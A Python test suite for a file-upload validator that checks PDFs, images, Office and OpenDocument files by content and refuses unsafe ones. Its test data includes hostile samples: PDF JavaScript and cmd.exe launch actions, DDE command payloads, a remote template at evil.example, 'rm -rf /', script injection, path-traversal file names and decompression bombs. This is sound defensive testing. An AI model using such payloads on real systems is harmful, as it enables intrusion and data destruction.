"""What is kept and what is not: by content, whatever the name says; and no file, however made, breaks the judge."""

from __future__ import annotations

import random
import struct
import time
import zipfile
import zlib
from collections.abc import Callable
from typing import Any, ClassVar

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.documents import samples
from tests.documents.samples import docx, jpeg, object_stream, open_document, packed, pdf, png, stream, xlsx

from motcua.documents.enums import FileKind
from motcua.documents.rules.uploads import FileRules, accept, clean_name
from motcua.kernel.refusals import Refused

KINDS = dict(
    zip(
        samples.HONEST,
        [
            FileKind.PDF,
            FileKind.JPEG,
            FileKind.PNG,
            FileKind.DOCX,
            FileKind.XLSX,
            FileKind.ODT,
            FileKind.ODS,
            FileKind.TEXT,
        ],
        strict=True,
    )
)


def outcome(judge: Callable[[], Any]) -> Any:
    """What the judge answers, also when it refuses; any other exception fails the test."""
    try:
        return judge()
    except Refused as refused:
        return refused


def refusal(data: bytes, name: str, rules: FileRules | None = None) -> Refused:
    with pytest.raises(Refused) as refused:
        accept(data=data, name=name, rules=rules or FileRules())
    return refused.value


@pytest.mark.parametrize("name", samples.HONEST)
def test_honest_files_are_kept_as_what_they_are(name: str) -> None:
    accepted = accept(data=samples.HONEST[name], name=name, rules=FileRules())
    assert (accepted.name, accepted.kind) == (name, KINDS[name])


def test_pages_of_a_pdf_are_counted_open_and_packed() -> None:
    assert accept(data=pdf(pages=4), name="a.pdf", rules=FileRules()).pages == 4
    hidden = object_stream(b"<< /Type /Page >>", b"<< /Type /Pages >>", b"<</Type/Page/Parent 2 0 R>>")
    assert accept(data=pdf(hidden), name="a.pdf", rules=FileRules()).pages == 3


def test_a_page_written_again_by_a_signature_counts_once() -> None:
    again = b"3 0 obj\n<< /Type /Page /Annots [9 0 R] >>\nendobj\nstartxref\n9\n%%EOF\n"
    assert accept(data=pdf(tail=again), name="a.pdf", rules=FileRules()).pages == 1


def test_a_name_without_ending_gets_one() -> None:
    assert accept(data=jpeg(), name="IMG 2031", rules=FileRules()).name == "IMG 2031.jpg"


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (samples.HONEST["đơn.docx"], "đơn.pdf"),
        (pdf(), "đơn.docx"),
        (png(), "ảnh.jpg"),
        (samples.TEXT, "đơn.pdf"),
        (pdf(), "đơn.pdf.exe"),
        (docx(), "đơn.zip"),
    ],
)
def test_an_ending_that_says_otherwise_is_refused(data: bytes, name: str) -> None:
    found = refusal(data, name)
    assert found.code == "file-ending-differs"
    assert name in found.message


@pytest.mark.parametrize(
    ("data", "word"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "DOCX"),
        (b"Rar!\x1a\x07\x01\x00" + bytes(50), "Giải nén"),
        (b"7z\xbc\xaf\x27\x1c" + bytes(50), "Giải nén"),
        (packed({"đơn.pdf": pdf()}), "Giải nén"),
        (packed({"[Content_Types].xml": samples.TYPES, "ppt/presentation.xml": b"<p/>"}), "Giải nén"),
        (b"MZ\x90\x00" + bytes(100), "PDF"),
        (b"\x00\x00\x00\x18ftypheic" + bytes(100), "JPEG"),
        (b"RIFF\x10\x00\x00\x00WEBPVP8 " + bytes(30), "JPEG"),
        (b"GIF89a" + bytes(30), "JPEG"),
        (b"II*\0" + bytes(30), "PDF"),
        (b"<!DOCTYPE html><html><body>x</body></html>", "PDF"),
        (b'\xef\xbb\xbf <?xml version="1.0"?><svg xmlns="x" onload="alert(1)"/>', "PDF"),
        (b"Xin ch\xc3\xa0o <script>alert(1)</script>", "PDF"),
        (b"#!/bin/sh\nrm -rf /\n", "PDF"),
        (bytes(range(256)) * 4, "PDF"),
        ("Xin chào".encode("utf-16"), "PDF"),
    ],
)
def test_other_kinds_are_refused_with_what_to_do(data: bytes, word: str) -> None:
    found = refusal(data, "tệp")
    assert found.code in {"file-kind-not-kept", "file-is-archive"}
    assert word in found.message


def test_empty_large_and_unwanted_here() -> None:
    assert refusal(b"", "a.pdf").code == "file-empty"
    found = refusal(pdf(), "a.pdf", FileRules(largest=100))
    assert (found.code, "MB" in found.message) == ("file-too-large", True)
    pictures = FileRules(kinds=frozenset({FileKind.JPEG, FileKind.PNG}))
    found = refusal(pdf(), "a.pdf", pictures)
    assert found.code == "file-kind-unwanted-here"
    assert "ảnh JPEG, ảnh PNG" in found.message
    assert accept(data=png(), name="a.png", rules=pictures).kind == FileKind.PNG


class TestPdf:
    ACTIVE: ClassVar = [
        pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        pdf(b"<< /S /J#61vaScr#69pt /JS (app.alert(1)) >>"),
        pdf(catalog=b"/OpenAction << /S/JavaScript/JS(x) >>"),
        pdf(b"<< /S /Launch /F (cmd.exe) >>"),
        pdf(b"<< /S /SubmitForm /F (https://x.example) >>"),
        pdf(b"<< /S /Rendition /JS (x) >>"),
        pdf(catalog=b"/AcroForm << /XFA 9 0 R >>"),
        pdf(b"<< /Type /RichMedia >>"),
        pdf(catalog=b"/Names << /EmbeddedFiles << /Names [(a) 9 0 R] >> >>"),
        pdf(stream(b"MZ", b"/Type /EmbeddedFile /Filter /FlateDecode")),
        pdf(object_stream(b"<< /S /JavaScript /JS (x) >>")),
        pdf(object_stream(b"<<>>", b"<< /S /#4aavaScript /JS (x) >>")),
        pdf(stream(b"% \n 50 0 << /S /JavaScript /JS (x) >>", b"/N 1 /First 8 /Filter /FlateDecode")),
        pdf(stream(b" " * 5000 + b"50 0 << /S /Launch >>", b"/N 1 /First 5005 /Filter /FlateDecode")),
        pdf(stream(b"87cURD]i,", b"/Type /ObjStm /N 1 /First 4 /Filter /ASCII85Decode", packed=False)),
        pdf(stream(b"87cURD]i,", b"/Type/ObjStm/N 1/First 4/Filter/#4cZWDecode", packed=False)),
    ]

    @pytest.mark.parametrize("number", range(len(ACTIVE)))
    def test_nothing_runs_and_nothing_is_carried(self, number: int) -> None:
        found = refusal(self.ACTIVE[number], "a.pdf")
        assert found.code == "file-active-content"
        assert "in ra PDF mới" in found.message

    def test_locked(self) -> None:
        locked = pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 9 0 R")
        assert refusal(locked, "a.pdf").code == "file-encrypted"

    def test_links_forms_signatures_outlines_and_font_names_are_harmless(self) -> None:
        harmless = pdf(
            b"<< /S /URI /URI (https://dichvucong.gov.vn) >>",
            b"<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 1 2 3] /Contents <00> >>",
            b"<< /Type /Font /BaseFont /XFABCD+TimesNewRoman >>",
            b"<< /First 5 0 R /Last 6 0 R /Count 2 >>",
            stream(b"87cURD]i,", b"/Filter [/ASCII85Decode /FlateDecode]", packed=False),
            stream(b"0.1 w 1 0 0 1 0 0 cm (Xin chao) Tj"),
            catalog=b"/OpenAction [3 0 R /Fit] /AcroForm << /SigFlags 3 >>",
        )
        assert accept(data=harmless, name="a.pdf", rules=FileRules()).kind == FileKind.PDF

    def test_a_stream_that_grows_without_end(self) -> None:
        bomb = pdf(stream(b"1 0 " + b" " * 30_000_000, b"/Type /ObjStm /First 4 /Filter /FlateDecode"))
        assert refusal(bomb, "a.pdf", FileRules(most_unpacked=1_000_000)).code == "file-unpacks-too-large"

    def test_a_white_or_black_scan_is_not_mistaken_for_one(self) -> None:
        scan = stream(bytes(3_000_000), b"/Subtype /Image /Filter /FlateDecode")
        assert accept(data=pdf(scan), name="a.pdf", rules=FileRules(most_unpacked=1_000_000)).pages == 1

    def test_two_kinds_at_once(self) -> None:
        assert refusal(b"GARBAGE\n" + pdf(), "a.pdf").code == "file-two-kinds-at-once"
        assert refusal(pdf(tail=packed({"a.js": b"x"})), "a.pdf").code == "file-two-kinds-at-once"
        assert refusal(pdf(tail=b"<script>x</script>"), "a.pdf").code == "file-two-kinds-at-once"
        comment = b"startxref\n9\n%%EOF\n"
        inside = packed({"a.js": b"x"})[:-2] + struct.pack("<H", len(comment)) + comment
        assert refusal(pdf(tail=inside), "a.pdf").code == "file-two-kinds-at-once"

    @pytest.mark.parametrize(
        "data", [b"%PDF-1.7\n", b"%PDF-1.7\nstartxref\n0\n%%EOF\n", pdf()[:-60], b"%PDF-9"]
    )
    def test_damaged(self, data: bytes) -> None:
        assert refusal(data, "a.pdf").code == "file-damaged"


class TestPictures:
    @pytest.mark.parametrize(
        ("data", "name"),
        [(png(width=20_000, height=20_000), "a.png"), (jpeg(width=60_000, height=3), "a.jpg")],
    )
    def test_too_large_when_opened(self, data: bytes, name: str) -> None:
        assert refusal(data, name).code == "file-picture-too-large"

    @pytest.mark.parametrize(
        ("data", "name"),
        [
            (png(tail=b"<?php x ?>"), "a.png"),
            (png(tail=packed({"a": b"b"})), "a.png"),
            (jpeg(tail=b"<script>"), "a.jpg"),
            (jpeg(tail=packed({"a": b"b"})), "a.jpg"),
            (jpeg(tail=jpeg() + packed({"a": b"b"})), "a.jpg"),
        ],
    )
    def test_something_behind_the_picture(self, data: bytes, name: str) -> None:
        assert refusal(data, name).code == "file-two-kinds-at-once"

    @pytest.mark.parametrize("tail", [b"\0\0", jpeg(), b"Samsung notes SEFT", b"\0\0\0\x18ftypmp42"])
    def test_what_telephones_add_is_left(self, tail: bytes) -> None:
        assert accept(data=jpeg(tail=tail), name="a.jpg", rules=FileRules()).pages == 1

    @pytest.mark.parametrize(
        "data", [png()[:-6], png()[:30], jpeg()[:20], jpeg()[:-2], b"\xff\xd8\xff", png(width=0)]
    )
    def test_damaged(self, data: bytes) -> None:
        assert refusal(data, "ảnh").code == "file-damaged"


class TestPackages:
    MACROS: ClassVar = [
        (docx({"word/vbaProject.bin": b"x"}), "a.docx"),
        (docx({"word/VBAPROJECT.BIN": b"x"}), "a.docx"),
        (
            docx(types=samples.TYPES.replace(b"a/b", b"application/vnd.ms-word.document.macroEnabled")),
            "a.docx",
        ),
        (xlsx({"xl/macrosheets/sheet1.xml": b"<x/>"}), "a.xlsx"),
        (docx({"word/activeX/activeX1.bin": b"x"}), "a.docx"),
        (open_document(more={"Basic/Standard/Module1.xml": b"<x/>"}), "a.odt"),
        (docx(), "a.docm"),
    ]

    @pytest.mark.parametrize("number", range(len(MACROS)))
    def test_macros(self, number: int) -> None:
        found = refusal(*self.MACROS[number])
        assert found.code == "file-has-macros"
        assert "không có macro" in found.message

    @pytest.mark.parametrize(
        "more",
        [
            {"word/embeddings/a.xlsx": xlsx()},
            {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"},
            {
                "word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
                b'Target="http://evil.example/a.dotm" TargetMode="External"/>'
            },
            {"xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'},
            {
                "word/header1.xml": b"<w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe </w:instrText>"
            },
        ],
    )
    def test_carried_files_and_things_fetched(self, more: dict[str, bytes]) -> None:
        assert refusal(docx(more), "a.docx").code == "file-active-content"

    def test_a_plain_link_to_a_page_is_harmless(self) -> None:
        link = b'<Relationship Type="http://x/hyperlink" Target="https://x.example" TargetMode="External"/>'
        data = docx({"word/_rels/document.xml.rels": link, "word/media/a.png": png()})
        assert accept(data=data, name="a.docx", rules=FileRules()).kind == FileKind.DOCX

    def test_bombs(self) -> None:
        bomb = docx({"word/media/a.emf": bytes(60_000_000)})
        assert len(bomb) < 100_000
        assert refusal(bomb, "a.docx").code == "file-unpacks-too-large"
        many = packed({"[Content_Types].xml": samples.TYPES} | {f"word/{n}.xml": b"" for n in range(5001)})
        assert refusal(many, "a.docx").code == "file-unpacks-too-large"
        several = docx({f"word/media/{n}.emf": random.Random(n).randbytes(1000) * 100 for n in range(20)})
        assert refusal(several, "a.docx", FileRules(most_unpacked=1_000_000)).code == "file-unpacks-too-large"

    def test_a_size_that_lies_is_measured(self) -> None:
        data = bytearray(docx({"word/media/a.emf": bytes(100_000)}))
        while (place := bytes(data).find(struct.pack("<I", 100_000))) >= 0:
            data[place : place + 4] = struct.pack("<I", 10)
        assert refusal(bytes(data), "a.docx").code == "file-damaged"

    @pytest.mark.parametrize(
        "data",
        [
            docx({"word/a.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
            docx({"word/a.xml": "<x/>".encode("utf-16")}),
            docx({"word/../../a.xml": b"<x/>"}),
            docx({"/etc/passwd": b"x"}),
            docx({"WORD/document.xml": b"<x/>"}),
            docx()[:200],
            packed(
                {"[Content_Types].xml": samples.TYPES, "word/document.xml": b"<x/>"}, method=zipfile.ZIP_BZIP2
            ),
        ],
    )
    def test_damaged_or_oddly_built(self, data: bytes) -> None:
        assert refusal(data, "a.docx").code == "file-damaged"

    def test_locked(self) -> None:
        data = bytearray(docx())
        for start in (b"PK\x03\x04", b"PK\x01\x02"):
            place = bytes(data).find(start)
            data[place + (6 if start[2] == 3 else 8)] |= 1
        assert refusal(bytes(data), "a.docx").code in {"file-encrypted", "file-damaged"}

    def test_something_behind_the_end(self) -> None:
        assert refusal(docx() + b"<script>", "a.docx").code in {"file-two-kinds-at-once", "file-damaged"}


class TestNames:
    @pytest.mark.parametrize(
        "name",
        [
            "../../etc/passwd",
            "..\\a.pdf",
            "/etc/passwd.pdf",
            "C:\\Users\\a.pdf",
            "a\0.pdf",
            "a\n.pdf",
            "đơn\u202efdp.exe",
            "\u2066a.pdf",
            "a" * 201,
            "CON.pdf",
            "lpt1",
            "",
            "...",
            " . ",
            "\ud800.pdf",
        ],
    )
    def test_tricks_are_refused(self, name: str) -> None:
        with pytest.raises(Refused) as refused:
            clean_name(name)
        assert refused.value.code == "file-name-unsafe"
        refused.value.message.encode()

    @pytest.mark.parametrize(
        ("name", "kept"),
        [
            ("Đơn xin cấp bản sao.pdf", "Đơn xin cấp bản sao.pdf"),
            ("Đơn.pdf", "Đơn.pdf"),
            ("hộ khẩu\u200b.pdf", "hộ khẩu.pdf"),
            ('a<b>"c".pdf', "a_b__c_.pdf"),
            (" .đơn.pdf. ", "đơn.pdf"),
        ],
    )
    def test_honest_names_stay(self, name: str, kept: str) -> None:
        assert clean_name(name) == kept

    @given(st.text(max_size=250))
    def test_any_name_is_kept_harmless_or_refused(self, name: str) -> None:
        kept = outcome(lambda: clean_name(name))
        if isinstance(kept, Refused):
            assert kept.code == "file-name-unsafe"
            return
        assert 0 < len(kept) <= 600
        assert not set(kept) & set('/\\<>:"|?*\0\n\r')
        assert clean_name(kept) == kept


def judged(data: bytes, name: str) -> None:
    """Judge a file: a refusal or an acceptance, in little time, nothing else."""
    started = time.process_time()
    found = outcome(lambda: accept(data=data, name=name, rules=FileRules(most_unpacked=5_000_000)))
    if isinstance(found, Refused):
        assert found.code.startswith("file-")
        assert found.message.startswith("Tệp “")
    assert time.process_time() - started < 5


STARTS = sorted({data[:8] for data in samples.HONEST.values()})


@settings(max_examples=300)
@given(st.sampled_from(STARTS), st.binary(max_size=400))
def test_noise_behind_a_known_beginning(start: bytes, noise: bytes) -> None:
    judged(start + noise, "a")


@settings(max_examples=300)
@given(st.sampled_from(sorted(samples.HONEST)), st.data())
def test_files_with_bytes_changed_cut_out_or_doubled(name: str, data: st.DataObject) -> None:
    content = bytearray(samples.HONEST[name])
    for _ in range(data.draw(st.integers(1, 4))):
        place = data.draw(st.integers(0, max(len(content) - 1, 0)))
        piece = data.draw(st.binary(max_size=6))
        match data.draw(st.sampled_from(["change", "cut", "double", "insert"])):
            case "change":
                content[place : place + len(piece)] = piece
            case "cut":
                del content[place : place + 40]
            case "double":
                content[place:place] = content[place : place + 40]
            case "insert":
                content[place:place] = piece
    judged(bytes(content), name)


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n" + b"stream\n" * 400_000 + b"startxref\n0\n%%EOF",
        b"%PDF-1.7\n" + b"1 0 obj " * 400_000 + b"/Type/Page startxref\n0\n%%EOF",
        pdf(b"1 0 obj " * 500 + b"/Type /Page " * 50_000),
        pdf(stream(b"1 1 " * 500_000, b"/Type/ObjStm/First 9/Filter/FlateDecode")),
        pdf(*[stream(b"1 0 <<>>")] * 5_000),
        b"\xff\xd8" + b"\xff" * 3_000_000,
        b"\xff\xd8\xff\xda\x00\x02" + b"\xff\x00" * 1_000_000,
        b"\x89PNG\r\n\x1a\n" + samples.png_part(b"tEXt", b"") * 200_000,
        b"PK\x05\x06" * 1_000_000,
        b"PK\x03\x04" + b"PK\x05\x06" * 1_000_000,
        b"%PDF-1.7\n/Type/Page startxref %%EOF" + b"PK\x05\x06" * 16_000,
        b"<" * 3_000_000,
        b" " * 3_000_000,
        zlib.compress(bytes(1000)),
        docx({"word/document2.xml": b"<" * 3_000_000}),
        docx({"word/_rels/a.rels": b"<TargetMode=" * 200_000}),
        docx({"word/b.xml": b"instrText" * 200_000}),
    ],
    ids=range(17),
)
def test_files_made_to_take_long_do_not(data: bytes) -> None:
    judged(data, "a")
